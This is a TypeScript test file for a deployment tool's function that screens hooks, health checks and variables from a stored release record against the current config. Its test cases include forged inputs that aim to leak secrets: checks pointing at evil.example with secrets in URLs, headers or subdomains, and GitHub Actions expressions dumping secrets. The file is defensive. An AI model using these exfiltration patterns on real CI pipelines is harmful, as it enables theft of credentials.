import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Check, CommandCheck, HttpCheck, TcpCheck } from '../../../src/domain/check/check.js';
import { type Believed, believed, secretsSkipped } from '../../../src/domain/rollout/believed.js';
import {
  HOOK_PHASES,
  type Hook,
  type HookPhase,
  type Hooks,
} from '../../../src/domain/rollout/environment.js';
import { literal } from '../../../src/domain/rollout/literal.js';
import type { Settings } from '../../../src/domain/rollout/release.js';
import { NO_HOOKS } from './any-journey.js';
import { plainSettings } from './any-record.js';

const timing = {
  intervalMs: 1000,
  timeoutMs: 1000,
  deadlineMs: 5000,
  startPeriodMs: 0,
  successes: 1,
  failures: 1,
};
const http = (url: string, more: Partial<HttpCheck> = {}): HttpCheck => ({
  kind: 'http',
  name: url,
  url,
  phase: 'switch',
  from: 'runner',
  timing,
  method: 'GET',
  headers: {},
  statuses: [],
  redirects: 0,
  ...more,
});
const tcp = (address: string, more: Partial<TcpCheck> = {}): TcpCheck => ({
  kind: 'tcp',
  name: address,
  address,
  phase: 'switch',
  from: 'runner',
  timing,
  ...more,
});
const run = (command: string, from: Check['from'] = 'runner'): CommandCheck => ({
  kind: 'command',
  name: command,
  command,
  phase: 'switch',
  from,
  timing,
});
const hook = (command: string, more: Partial<Hook> = {}): Hook => ({
  command,
  from: 'runner',
  timeoutMs: 1000,
  onFailure: 'abort',
  idempotent: false,
  ...more,
});

const UNKNOWN = { isConfirmed: false, isEverywhere: true };
const checksOf = (recorded: readonly Check[], today: Partial<Settings> = {}, vouched = UNKNOWN) =>
  believed(plainSettings({ checks: recorded }), plainSettings(today), vouched).settings.checks;
const variablesOf = (recorded: Settings['variables'], today: Settings['variables'] = {}, vouched = UNKNOWN) =>
  believed(plainSettings({ variables: recorded }), plainSettings({ variables: today }), vouched);
const ran = ({ settings }: Believed) =>
  Object.values(settings.hooks).flatMap((list) => list.filter(({ isSkipped }) => !isSkipped));

describe('a hook of a record', () => {
  const recorded = (hooks: Partial<Hooks>) => plainSettings({ hooks: { ...NO_HOOKS, ...hooks } });

  it('that runs here is run only as today’s file has it, in the same phase, as often', () => {
    const today = recorded({ 'pre-rollback': [hook('./tell')], 'post-deploy': [hook('./announce')] });
    const forged = {
      'pre-rollback': [
        hook('./tell'),
        hook('./tell'),
        hook('./tell', { timeoutMs: 9000 }),
        hook('./announce'),
        hook('id'),
      ],
    };
    const result = believed(recorded(forged), today, UNKNOWN);
    expect(ran(result)).toEqual([hook('./tell')]);
    expect(result.settings.hooks['pre-rollback']).toHaveLength(5);
    expect(result.skipped.map((one) => one.kind === 'hook' && one.command)).toEqual([
      './tell',
      './tell',
      './announce',
      'id',
    ]);
  });

  it('that runs on the target is its own, unless a place lacks the record', () => {
    const own = recorded({ 'pre-rollback': [hook('./there', { from: 'target' })] });
    expect(ran(believed(own, recorded({}), UNKNOWN))).toHaveLength(1);
    expect(ran(believed(own, recorded({}), { ...UNKNOWN, isEverywhere: false }))).toHaveLength(0);
    expect(ran(believed(own, own, { ...UNKNOWN, isEverywhere: false }))).toHaveLength(1);
  });
});

describe('a check of a record', () => {
  it('that today’s file has is asked, however often and whatever was to be answered', () => {
    const today = http('https://shop.example.com/up?${TOKEN}', { headers: { a: '${TOKEN}' }, redirects: 3 });
    const then = { ...today, timing: { ...timing, successes: 3 }, statuses: [200], latencyMs: 5 };
    for (const check of [then, run('./check'), tcp('db:5432')])
      expect(checksOf([check], { checks: [today, run('./check'), tcp('db:5432')] })).toEqual([check]);
  });

  it('may go to the target’s own slots, and to origins of today', () => {
    const today = {
      url: 'https://shop.example.com/',
      checks: [http('http://${HOST}:8080/up'), tcp('db:5432')],
    };
    const good = [
      http('http://${CIMYR_INSTANCE}/up'),
      http('https://${CIMYR_INSTANCE}?r=${CIMYR_RELEASE}', { headers: { 'x-app': '${CIMYR_APP}' } }),
      http('https://shop.example.com/other'),
      http('http://${HOST}:8080/other'),
      tcp('${CIMYR_INSTANCE}'),
      tcp('db:5432', { name: 'database' }),
      http('http://localhost:9000/up', { from: 'target' }),
      run('./check', 'target'),
    ];
    expect(checksOf(good, today)).toEqual(good);
  });

  it.each([
    ['another address', http('http://10.0.0.1/admin')],
    ['another port', http('https://shop.example.com:8443/')],
    ['another scheme', http('http://shop.example.com/')],
    ['a name that begins alike', http('https://shop.example.com.evil.example/')],
    ['a login', http('https://shop.example.com@evil.example/')],
    ['a slot as login', http('http://${CIMYR_INSTANCE}@evil.example/')],
    ['a slot with a default', http('http://${CIMYR_INSTANCE:-evil.example}/')],
    ['a slot’s port on this machine', http('http://127.0.0.1:${CIMYR_PORT}/')],
    ['a variable as address', http('${URL}/up')],
    ['where a slot redirects to', http('http://${CIMYR_INSTANCE}/up', { redirects: 1 })],
    ['where an origin of today redirects to', http('https://shop.example.com/', { redirects: 1 })],
    ['another socket', tcp('10.0.0.1:22')],
    ['a variable as socket', tcp('${HOST}:22')],
    ['a variable of this machine in the path', http('http://${CIMYR_INSTANCE}/?t=${AWS_SECRET}')],
    ['… behind a default', http('http://${CIMYR_INSTANCE}/?t=${AWS_SECRET:-x}')],
    ['… in a header', http('http://${CIMYR_INSTANCE}/', { headers: { a: '${AWS_SECRET}' } })],
    ['… in the body', http('http://${CIMYR_INSTANCE}/', { body: '${AWS_SECRET}' })],
    ['… in the name', http('http://${CIMYR_INSTANCE}/', { name: '${AWS_SECRET}' })],
    ['… in a path that the target asks', http('http://localhost/?${AWS_SECRET}', { from: 'target' })],
    ['… in an address that the target asks', tcp('${AWS_SECRET}.evil.example:80', { from: 'target' })],
    ['the key of records', http('http://${CIMYR_INSTANCE}/?${CIMYR_RECORD_KEY}')],
    ['a command here', run('id')],
  ])('is skipped and named: %s', (_, check) => {
    const url = 'https://shop.example.com/up';
    const result = believed(
      plainSettings({ checks: [check] }),
      plainSettings({ url, checks: [http(url)] }),
      UNKNOWN,
    );
    expect(result.settings.checks).toEqual([]);
    expect(result.skipped).toEqual([{ kind: 'check', name: check.name }]);
  });

  it('goes to no other address behind a default of an origin', () => {
    const today = { checks: [http('http://${HOST:-a/b}/up')] };
    expect(checksOf([http('http://${HOST:-a/}.evil.example/')], today)).toEqual([]);
    expect(
      checksOf([http('http://shop.example.com\\\\@evil.example/')], { url: 'http://shop.example.com' }),
    ).toEqual([]);
  });

  it('of the target is not asked of places that lack the record', () => {
    const checks = [run('./check', 'target'), http('http://localhost/', { from: 'target' })];
    expect(checksOf(checks, {}, { ...UNKNOWN, isEverywhere: false })).toEqual([]);
  });
});

describe('a variable of a record', () => {
  it('is a value on the target; what acts here has today’s', () => {
    const result = variablesOf({ REGION: 'eu', NODE_OPTIONS: '-r ./x' }, { REGION: 'us' });
    expect(result.settings.variables).toEqual({ REGION: 'eu', NODE_OPTIONS: '-r ./x' });
    expect(result.here).toEqual({ REGION: 'us' });
    expect(result.skipped).toEqual([]);
  });

  it('is one only of today where a place lacks the record', () => {
    const { settings, skipped } = variablesOf(
      { A: '1', B: '2' },
      { A: '1', B: '3' },
      { ...UNKNOWN, isEverywhere: false },
    );
    expect(settings.variables).toEqual({ A: '1' });
    expect(skipped).toEqual([{ kind: 'variable', name: 'B', secrets: [] }]);
  });

  it('that what runs here would have found is named', () => {
    const checks = [run('./check')];
    const then = plainSettings({ checks, variables: { A: '1', B: '2' } });
    const { skipped } = believed(then, plainSettings({ checks, variables: { A: '1' } }), UNKNOWN);
    expect(skipped).toEqual([{ kind: 'variable-here', name: 'B' }]);
  });

  it('names secrets and this machine only as today’s file does', () => {
    const today = { TOKEN: '${{ secrets.TOKEN }}', SHA: '${{ github.sha }}' };
    const forged = {
      ...today,
      LOOT: '${{ secrets.CLOUD_TOKEN }}',
      OTHER: "x ${{ format('{0}', secrets['CLOUD_TOKEN']) }}",
      ALL: '${{ toJSON(secrets) }}',
      WHO: '${{ github.actor }}',
      SHA2: today.SHA,
    };
    const { settings, skipped } = variablesOf(forged, today);
    expect(settings.variables).toEqual(today);
    expect(skipped).toEqual([
      { kind: 'variable', name: 'LOOT', secrets: ['CLOUD_TOKEN'] },
      { kind: 'variable', name: 'OTHER', secrets: ['CLOUD_TOKEN'] },
      { kind: 'variable', name: 'ALL', secrets: ['*'] },
      { kind: 'variable', name: 'WHO', secrets: [] },
      { kind: 'variable', name: 'SHA2', secrets: [] },
    ]);
    expect(secretsSkipped(skipped).map(({ name }) => name)).toEqual(['LOOT', 'OTHER', 'ALL']);
  });

  it('that looks like an expression and was given as a value is one', () => {
    const given = { MESSAGE: literal('fix ${{ secrets.X }} and ${{') };
    expect(variablesOf(given).settings.variables).toEqual(given);
  });
});

const word = fc.constantFrom('id', './tell', './check');
const anyHook = fc
  .record({ command: word, from: fc.constantFrom('runner' as const, 'target' as const) })
  .map(({ command, from }) => hook(command, { from }));
const anyHooks: fc.Arbitrary<Hooks> = fc.record(
  Object.fromEntries(HOOK_PHASES.map((phase) => [phase, fc.array(anyHook, { maxLength: 2 })])) as Record<
    HookPhase,
    fc.Arbitrary<Hook[]>
  >,
);
const place = fc.constantFrom('${CIMYR_INSTANCE}', 'evil.example', '${HOST}', 'shop.example.com');
const anyCheck: fc.Arbitrary<Check> = fc.oneof(
  fc
    .tuple(word, fc.constantFrom('runner' as const, 'target' as const))
    .map(([text, from]) => run(text, from)),
  fc
    .tuple(
      place,
      fc.constantFrom('', '/${TOKEN}', '/${CIMYR_RELEASE}', '@evil.example/'),
      fc.integer({ max: 1, min: 0 }),
    )
    .map(([at, path, redirects]) => http(`http://${at}${path}`, { redirects })),
  place.map((at) => tcp(`${at}:80`)),
);
const anyVariables = fc.dictionary(
  fc.constantFrom('A', 'B'),
  fc.constantFrom('x', '${{ secrets.X }}', '${{ github.sha }}', literal('${{ secrets.X }}')),
);
const anySettings = fc
  .record({ hooks: anyHooks, checks: fc.array(anyCheck, { maxLength: 3 }), variables: anyVariables })
  .map((some) => plainSettings(some));

describe('whatever a record says', () => {
  it('nothing acts here, or names what this machine knows, that today’s file does not ask for', () => {
    fc.assert(
      fc.property(anySettings, anySettings, fc.boolean(), (recorded, today, isEverywhere) => {
        const result = believed(recorded, today, { isConfirmed: false, isEverywhere });
        const asText = (one: unknown) => JSON.stringify(one);
        for (const phase of HOOK_PHASES)
          for (const one of result.settings.hooks[phase])
            if (one.from === 'runner' && !one.isSkipped)
              expect(today.hooks[phase].map(asText)).toContain(asText(one));
        const whither = (check: Check) =>
          check.kind === 'tcp' ? check.address : check.kind === 'http' ? check.url.split('/')[2] : undefined;
        for (const check of result.settings.checks) {
          if (check.from === 'target' || today.checks.map(asText).includes(asText(check))) continue;
          expect(check.kind).not.toBe('command');
          expect(asText(check)).not.toContain('TOKEN');
          expect(['${CIMYR_INSTANCE}', ...today.checks.map(whither)]).toContain(whither(check));
        }
        for (const [name, text] of Object.entries(result.settings.variables))
          if (text !== today.variables[name]) expect(['x', literal('${{ secrets.X }}')]).toContain(text);
        expect(result.here).toEqual(today.variables);
      }),
    );
  });

  it('runs as it was deployed where every place says so, or it is confirmed, else as today’s file says', () => {
    const [own, others] = [{ start: './serve' }, { start: './start' }];
    const recorded = plainSettings({ spec: own });
    const today = plainSettings({ spec: others });
    const of = (settings: Settings, isConfirmed: boolean, isEverywhere: boolean) => {
      const { settings: used, skipped } = believed(settings, today, { isConfirmed, isEverywhere });
      return [used.spec, skipped];
    };
    expect(of(recorded, true, false)).toEqual([own, []]);
    expect(of(recorded, false, true)).toEqual([own, []]);
    expect(of(recorded, false, false)).toEqual([others, [{ kind: 'spec' }]]);
    expect(of(today, false, false)).toEqual([others, []]);
    // Of an older version.
    const older = plainSettings();
    expect(of(older, true, true)).toEqual([others, [{ kind: 'no-spec' }]]);
    expect(of(older, false, true)).toEqual([others, [{ kind: 'no-spec' }]]);
    const nothing = { isConfirmed: false, isEverywhere: false };
    expect(believed(older, plainSettings({ spec: {} }), nothing).skipped).toEqual([]);
  });

  it('is done whole where it is confirmed, and where today’s file is the same', () => {
    fc.assert(
      fc.property(anySettings, anySettings, (recorded, today) => {
        const whole = { settings: recorded, here: recorded.variables, skipped: [] };
        expect(believed(recorded, today, { isConfirmed: true, isEverywhere: false })).toEqual(whole);
        expect(believed(recorded, recorded, { isConfirmed: false, isEverywhere: false })).toEqual(whole);
      }),
    );
  });
});
